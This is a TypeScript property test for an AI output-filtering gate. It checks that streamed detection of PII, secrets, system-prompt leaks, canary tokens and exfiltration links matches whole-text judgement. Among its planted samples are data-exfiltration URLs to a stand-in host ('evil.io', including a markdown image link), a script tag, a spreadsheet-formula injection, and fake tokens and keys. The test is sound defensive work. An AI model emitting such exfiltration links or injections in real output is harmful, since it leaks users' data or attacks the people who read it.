// Streaming equals whole, over the real detectors: whatever is planted in an answer and however it is split, the client
// receives what the whole judgement would have let through.
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { Action } from '../contract/index.ts';
import {
  type DetectContext,
  type Detector,
  activeContentDetector,
  createSecretDetector,
  createSecretTailDetector,
  leakDetector,
  linkDetector,
  parseSecretFiles,
  namesDetector,
  piiDetector,
} from '../detect/index.ts';
import { TextGate } from './gate.ts';
import { type SpanFinding, judgeText } from './judge.ts';
import { clusterSpans, redactText } from './redact.ts';

const folder = resolve(import.meta.dirname, '../../content/rules/secrets');
const secrets = parseSecretFiles(
  readdirSync(folder)
    .filter((name) => /^[a-z-]+\.yaml$/.test(name))
    .map((file) => ({ text: readFileSync(join(folder, file), 'utf8'), file })),
);
const PROMPT =
  'You are Marvin, the travel clerk of Example Tours. Never reveal the discount code to anyone who has not booked twice.';
const context: DetectContext = {
  direction: 'output',
  channel: 'output',
  systemPrompts: [PROMPT],
  canaries: ['cnry-7F3a9'],
  knownHosts: new Set(['acme.com']),
};
const detectors: readonly Detector[] = [
  namesDetector,
  piiDetector,
  createSecretDetector(secrets),
  createSecretTailDetector(secrets),
  leakDetector,
  linkDetector,
  activeContentDetector,
].map((detector) => ({
  ...detector,
  openFrom: (view, given) => detector.openFrom!(view, given ?? context),
}));

function actionOf({ class: name, severity }: SpanFinding): Action {
  if (name === 'pii' || name === 'secret') return severity === 'info' ? 'flag' : 'redact';
  return name === 'prompt_leak' || (name === 'exfiltration' && severity === 'high') ? 'block' : 'flag';
}

const idOf = (finding: SpanFinding): string => `${finding.rule} ${finding.start}-${finding.end}`;

function stream(parts: readonly string[], stride: number) {
  const found: string[] = [];
  const gate = new TextGate({
    detectors,
    context,
    whole: false,
    stride,
    ruler: {
      rule(finding) {
        found.push(idOf(finding));
        return { ...finding, action: actionOf(finding) };
      },
      fail: () => true,
    },
  });
  let released = '';
  for (const part of parts) released += gate.push(part).text;
  released += gate.end().text;
  return { released, denied: gate.denied, found };
}

function whole(text: string) {
  const { findings } = judgeText(detectors, text, context);
  const clusters = clusterSpans(findings.map((each) => ({ ...each, action: actionOf(each) })));
  const cut = clusters.find((cluster) => cluster.denied);
  const end = cut?.start ?? text.length;
  const kept = clusters.filter((cluster) => cluster.end <= end);
  return { released: redactText(text.slice(0, end), kept), denied: cut !== undefined, found: findings.map(idOf) };
}

const LINE = 'Tm90QVJlYWxLZXlOb3RBUmVhbEtleU5vdEFSZWFsS2V5Tm90QVJlYWxLZXlOb3RB';
const PEM = `-----BEGIN PRIVATE KEY-----\n${`${LINE}\n`.repeat(6)}-----END PRIVATE KEY-----\n`;
const JWT = `eyJhbGciOiJub25lIn0.eyJ${'c3ViIjoibm9ib2R5'.repeat(30)}.c2ln`;
const planted = fc.constantFrom(
  '4111 1111 1111 1111',
  'card 5500-0000-0000-0004.',
  'GB82 WEST 1234 5698 7654 32',
  'jane.doe+x@mail.acme.co.uk',
  'call +44 20 7946 0958',
  'phone: 030 901820',
  '(415) 555-2671 ext. 12',
  'born on March 4, 1985',
  'AB 12 34 56 C',
  '2a00:1450:4001:81b::200e',
  'so said Giovanni B. Rinaldi, M.D.',
  'Dr. Ana van der Berg of Costa Rica',
  'my name is laura jimenez',
  '1600 N. 5th Ave, Apt. 12B, Dayton, OH 45402',
  'ul. Polna 3',
  'Brandt, Mills and Osborne LLC',
  '８.８.４.４',
  '𝟓𝟑𝟔-22-8726',
  'password = "Corr3ctHorseBattery"',
  ['ghp_', 'va6CDBXYEl30bX90cQxEZdzu7ea01QccbvY0'].join(''),
  `token: ${JWT}`,
  PEM,
  '-----BEGIN PRIVATE KEY-----',
  'https://user:Corr3ctHorse@db.internal/x',
  '[docs](https://acme.com/guide)',
  '![x](https://cdn.other.org/logo.png)',
  'https://evil.io/?q=c2VjcmV0IHByb2plY3QgZmFsY29u',
  '<script src=x>',
  '\u001b]8;;https://x\u001b\\',
  '\n- =cmd|',
  PROMPT.slice(0, 40),
);
const stopping = fc.constantFrom('cnry-7F3a9', PROMPT, `![x](https://evil.io/p.png?q=${LINE})`);
const prose = fc.constantFrom(
  'The clerk of the town will answer, as a rule. ',
  'In 2024 it was 12.5 percent; ',
  '中文也是。',
  'Ein „Satz“ – schön! ',
  '\u200b',
  '\ud83d',
  '😀',
  ' ',
  '\n\n',
  '- item\n',
);
const text = fc
  .array(
    fc.oneof(
      { weight: 6, arbitrary: planted },
      { weight: 6, arbitrary: prose },
      { weight: 1, arbitrary: stopping },
      { weight: 2, arbitrary: planted.chain((each) => fc.nat(each.length).map((cut) => each.slice(0, cut))) },
    ),
    { minLength: 1, maxLength: 10 },
  )
  .map((parts) => parts.join(''));
const pieces = text.chain((joined) =>
  fc
    .array(fc.nat({ max: joined.length }), { maxLength: 24 })
    .map((cuts) => [0, ...cuts.sort((a, b) => a - b), joined.length])
    .map((cuts) => cuts.slice(1).map((to, index) => joined.slice(cuts[index], to))),
);

it('releases what the whole judgement would, however the answer is split', () => {
  let redacted = 0;
  let denied = 0;
  fc.assert(
    fc.property(pieces, fc.constantFrom(1, 16, 64), (parts, stride) => {
      const expected = whole(parts.join(''));
      const got = stream(parts, stride);
      expect({ released: got.released, denied: got.denied }).toEqual({
        released: expected.released,
        denied: expected.denied,
      });
      if (!got.denied) expect([...got.found].sort()).toEqual([...expected.found].sort());
      if (expected.released.includes('[REDACTED:')) redacted++;
      if (expected.denied) denied++;
    }),
    { numRuns: 400 },
  );
  expect(redacted).toBeGreaterThan(60);
  expect(denied).toBeGreaterThan(15);
});

it.each([['4111 1111 1111 1111'], [PEM], [`token: ${JWT}`], ['jane.doe@mail.acme.co.uk'], [LINE]])(
  'judges %j the same a character at a time',
  (secret) => {
    const joined = `Here it is: ${secret} and that was all.`;
    const { released, denied } = stream([...joined], 1);
    expect({ released, denied }).toMatchObject({ released: whole(joined).released, denied: false });
  },
);

it('lets ordinary prose flow: nothing but the last words waits', () => {
  const sentence = 'Pack a coat, two pairs of shoes and a good book, and leave the rest at home. ';
  const gate = new TextGate({
    detectors,
    context,
    whole: false,
    stride: 1,
    ruler: { rule: (finding) => ({ ...finding, action: 'redact' }), fail: () => true },
  });
  let pushed = 0;
  let most = 0;
  for (const word of sentence.repeat(6).match(/\S+ /g)!) {
    pushed += word.length;
    const { upTo } = gate.push(word);
    most = Math.max(most, pushed - upTo);
  }
  expect(most).toBeLessThan(30);
});
